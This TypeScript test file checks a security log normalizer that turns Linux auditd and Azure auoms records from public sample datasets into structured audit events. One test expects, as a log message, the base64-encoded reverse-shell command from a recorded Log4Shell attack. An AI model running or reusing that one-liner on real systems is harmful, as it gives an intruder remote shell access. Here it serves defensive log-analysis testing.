import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../../shared/domain/audit-event.ts';
import { dataset } from '../../../../test/support/paths.ts';
import { type JsonObject, RecordError, type SourceRecord } from '../types.ts';
import { auditdFileLines, collect } from './auditd-test-lines.ts';
import {
  auomsEventValue,
  auomsSyslogNormalizer,
  groupAuditdLines,
  linuxAuditdNormalizer,
} from './linux-auditd.ts';

async function normalizedFile(
  folder: string,
  file: string,
): Promise<Array<{ record: SourceRecord; event: NormalizedEvent }>> {
  const items = await collect(groupAuditdLines(auditdFileLines(dataset('linux-auditd', folder, file))));
  return items.flatMap((i) =>
    i.kind === 'record' ? [{ record: i.record, event: linuxAuditdNormalizer.normalize(i.record) }] : [],
  );
}

function bySerial(events: Array<{ event: NormalizedEvent }>, serial: string): NormalizedEvent {
  const found = events.find((e) => e.event.requestId?.endsWith(`:${serial}`));
  if (!found) throw new Error(`no event ${serial}`);
  return found.event;
}

describe('linuxAuditdNormalizer on real audit.log samples', () => {
  it('maps a failed connect with a decoded exe and SOCKADDR (normal.log :58)', async () => {
    const events = await normalizedFile('go-libaudit', 'normal.log');
    expect(bySerial(events, '58')).toEqual({
      time: 1492037289295000,
      timeOriginal: '1492037289.295:58',
      source: 'linux.auditd',
      action: 'syscall:connect',
      category: 'network',
      outcome: 'failure',
      actor: { id: '0', type: 'user' },
      target: { type: 'process', name: '/usr/bin/python2.7;58d1ccfb (deleted)' },
      ip: '169.254.169.254',
      requestId: '1492037289.295:58',
      changes: [],
    });
  });

  it('maps an execve with its command line, cwd and rule key (normal.log :59)', async () => {
    const events = await normalizedFile('go-libaudit', 'normal.log');
    const e = bySerial(events, '59');
    expect([e.action, e.category, e.outcome, e.actor, e.target, e.sessionId, e.message]).toEqual([
      'syscall:execve',
      'system',
      'success',
      { id: '1000', type: 'user' },
      { type: 'file', name: '/usr/bin/grep' },
      '802',
      'grep --color=auto mapping',
    ]);
    const value = events.find((x) => x.record.value.serial === '59')?.record.value;
    expect([
      value?.type,
      value?.syscall,
      value?.exe,
      value?.comm,
      value?.key,
      value?.a0,
      value?.a1,
      value?.a2,
      value?.a3,
      value?.cwd,
      value?.name,
      value?.auid,
    ]).toEqual([
      'SYSCALL',
      '59',
      '/usr/bin/grep',
      'grep',
      'user_commands',
      'grep',
      '--color=auto',
      'mapping',
      undefined,
      '/home/andrew_kroh',
      '/usr/bin/grep',
      '1000',
    ]);
  });

  it('decodes proctitle (sh_arp_cache :92733, :92734)', async () => {
    const events = await normalizedFile('otrf', 'sh_arp_cache_2020-11-10074812.log');
    expect(events.map((e) => e.record.value.proctitle)).toEqual(['arp -a', 'grep -v ^?']);
    const e = bySerial(events, '92734');
    expect([
      e.time,
      e.timeOriginal,
      e.action,
      e.actor.id,
      e.target.name,
      e.outcome,
      e.sessionId,
      e.message,
    ]).toEqual([
      1604994496155000,
      '1604994496.155:92734',
      'syscall:execve',
      '1000',
      '/bin/grep',
      'success',
      '104',
      'grep -v ^?',
    ]);
  });

  it('maps userspace login records: failed with an invalid user, and successful (audit-ubuntu16.log)', async () => {
    const events = await normalizedFile('go-libaudit', 'audit-ubuntu16.log');
    const failed = bySerial(events, '19955');
    expect([
      failed.time,
      failed.action,
      failed.category,
      failed.outcome,
      failed.actor,
      failed.target,
      failed.ip,
      failed.sessionId,
    ]).toEqual([
      1492896301818000,
      'user_login',
      'authentication',
      'failure',
      { id: '0', name: '(invalid user)', type: 'user' },
      { type: 'process', name: '/usr/sbin/sshd' },
      '179.38.151.221',
      undefined,
    ]);
    const ok = bySerial(events, '12651');
    expect([ok.outcome, ok.actor.id, ok.ip, ok.sessionId]).toEqual([
      'success',
      '1001',
      '72.83.230.100',
      '36',
    ]);
    const avc = bySerial(events, '61207');
    expect([avc.action, avc.outcome]).toEqual(['avc', 'failure']);
  });

  it('maps a hex-encoded USER_CMD and a SYSCALL of a deleted binary (audit-rhel6.log)', async () => {
    const events = await normalizedFile('go-libaudit', 'audit-rhel6.log');
    const cmd = bySerial(events, '19469538');
    expect([cmd.action, cmd.outcome, cmd.actor.id, cmd.sessionId, cmd.message]).toEqual([
      'user_cmd',
      'success',
      '700',
      '11988',
      '/usr/lib64/nagios/plugins/check_asterisk_sip_peers -p 107',
    ]);
    const sys = bySerial(events, '20614537');
    expect([sys.time, sys.action, sys.category, sys.actor.id, sys.target.name]).toEqual([
      1490995752404000,
      'syscall:sendto',
      'network',
      '0',
      '/usr/libexec/strongswan/charon (deleted)',
    ]);
  });

  it('maps 2007-era records: the AVC+SYSCALL open denial and PAM records (test2.log)', async () => {
    const events = await normalizedFile('go-libaudit', 'test2.log');
    expect(events.map((e) => e.event.timeOriginal.slice(0, 10))).toEqual([
      '1170021601',
      '1170021601',
      '1170021601',
      '1170021601',
      '1170021601',
      '1170021493',
      '1170021601',
    ]);
    expect(events.every((e) => new Date(e.event.time / 1000).getUTCFullYear() === 2007)).toBe(true);
    const open = bySerial(events, '293');
    expect([open.time, open.action, open.category, open.outcome, open.actor.id, open.target]).toEqual([
      1170021493977000,
      'syscall:open',
      'data_access',
      'failure',
      '890',
      { type: 'file', name: 'maildrop' },
    ]);
    const start = bySerial(events, '297');
    expect([start.action, start.category, start.outcome, start.actor, start.sessionId]).toEqual([
      'user_start',
      'authentication',
      'success',
      { id: '0', name: 'root', type: 'user' },
      undefined,
    ]);
    const login = bySerial(events, '296');
    expect([login.action, login.category, login.actor.id]).toEqual(['login', 'authentication', '0']);
  });

  it('maps a lone PATH record (audit-ubuntu14.log)', async () => {
    const [only] = await normalizedFile('go-libaudit', 'audit-ubuntu14.log');
    expect(only?.event).toEqual({
      time: 1521758453536000,
      timeOriginal: '1521758453.536:1428931',
      source: 'linux.auditd',
      action: 'path',
      category: 'data_access',
      outcome: 'unknown',
      actor: {},
      target: { type: 'file', name: '/share/general/path_redacted' },
      requestId: '1521758453.536:1428931',
      changes: [],
    });
  });

  it('detects grouped values only, and refuses values of another shape', () => {
    const good = {
      records: [{ type: 'SYSCALL', fields: { a: '1' } }],
      epoch: '1.0',
      serial: '1',
      type: 'SYSCALL',
    };
    expect(linuxAuditdNormalizer.detect(good)).toBe(1);
    expect(linuxAuditdNormalizer.detect({ records: [] })).toBe(0);
    expect(linuxAuditdNormalizer.detect({ records: [{ type: 1 }] })).toBe(0);
    expect(linuxAuditdNormalizer.detect({ Records: [] })).toBe(0);
    const record: SourceRecord = {
      value: { eventName: 'x' },
      text: '{}',
      offset: 0,
      line: 1,
      encodingError: false,
    };
    expect(() => linuxAuditdNormalizer.normalize(record)).toThrow(RecordError);
  });

  it('names syscalls of other architectures by number, and honours ENRICHED names and IAM targets', () => {
    const value = (records: JsonObject[], top: JsonObject): JsonObject => ({
      records,
      epoch: '1700000000.5',
      serial: '3',
      ...top,
    });
    const arm = linuxAuditdNormalizer.normalize({
      value: value([{ type: 'SYSCALL', fields: {} }], {
        type: 'SYSCALL',
        arch: 'c00000b7',
        syscall: '221',
        auid: '-1',
        uid: '5',
        UID: 'bob',
      }),
      text: '',
      offset: 0,
      line: 1,
      encodingError: false,
    });
    expect([arm.time, arm.action, arm.actor]).toEqual([
      1700000000500000,
      'syscall:221',
      { id: '5', name: 'bob', type: 'user' },
    ]);
    const add = linuxAuditdNormalizer.normalize({
      value: value([{ type: 'ADD_USER', fields: {} }], {
        type: 'ADD_USER',
        auid: '1000',
        AUID: 'alice',
        acct: 'mallory',
        res: 'success',
      }),
      text: '',
      offset: 0,
      line: 1,
      encodingError: false,
    });
    expect([add.action, add.category, add.actor, add.target, add.outcome]).toEqual([
      'add_user',
      'iam',
      { id: '1000', name: 'alice', type: 'user' },
      { type: 'user', name: 'mallory' },
      'success',
    ]);
  });
});

describe('auomsSyslogNormalizer on the Azure Syslog rows', () => {
  const rows = readFileSync(
    dataset(
      'linux-auditd',
      'otrf',
      'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.part1.json',
    ),
    'utf8',
  )
    .split('\n')
    .filter((l) => l !== '');
  const record = (text: string): SourceRecord => ({
    value: JSON.parse(text) as JsonObject,
    text,
    offset: 0,
    line: 1,
    encodingError: false,
  });

  it('detects and normalizes every row', () => {
    expect(rows.length).toBe(25);
    const events = rows.map((r) => {
      expect(auomsSyslogNormalizer.detect(record(r).value)).toBe(1);
      return auomsSyslogNormalizer.normalize(record(r));
    });
    expect(new Set(events.map((e) => e.action))).toEqual(new Set(['syscall:execve']));
    expect(events.filter((e) => e.outcome === 'failure').length).toBe(11);
    expect(
      events.every((e) => e.ip === '192.168.2.5' && e.sessionId === undefined && e.category === 'system'),
    ).toBe(true);
  });

  it('maps the log4shell reverse shell command exactly (row 6)', () => {
    const e = auomsSyslogNormalizer.normalize(record(rows[5] ?? ''));
    expect(e).toEqual({
      time: 1652292621990000,
      timeOriginal: '1652292621.990:84143',
      source: 'linux.auditd',
      action: 'syscall:execve',
      category: 'system',
      outcome: 'success',
      actor: { id: '1001', name: 'tomcat', type: 'user' },
      target: { type: 'file', name: '/bin/bash' },
      ip: '192.168.2.5',
      requestId: '1652292621.990:84143',
      message:
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"',
      changes: [],
    });
  });

  it('maps a failed exec lookup with its unquoted proctitle (row 1)', () => {
    const e = auomsSyslogNormalizer.normalize(record(rows[0] ?? ''));
    expect([e.outcome, e.target.name, e.actor.name, e.message]).toEqual([
      'failure',
      '/usr/local/sbin/bash',
      'tomcat',
      '/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l',
    ]);
    const value = auomsEventValue(record(rows[0] ?? '').value);
    expect([value?.type, value?.syscall, value?.exe, value?.comm, value?.key, value?.node]).toEqual([
      'AUOMS_EXECVE',
      'execve',
      '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java',
      'http-nio-8080-e',
      'auoms,delete',
      'UBUNTU5',
    ]);
  });

  it('does not claim other rows', () => {
    expect(auomsSyslogNormalizer.detect({ SyslogMessage: 'sshd[1]: Accepted password for root' })).toBe(0);
    expect(auomsSyslogNormalizer.detect({ eventName: 'x' })).toBe(0);
    expect(() => auomsSyslogNormalizer.normalize(record('{"SyslogMessage":"type=X but no audit"}'))).toThrow(
      RecordError,
    );
  });
});
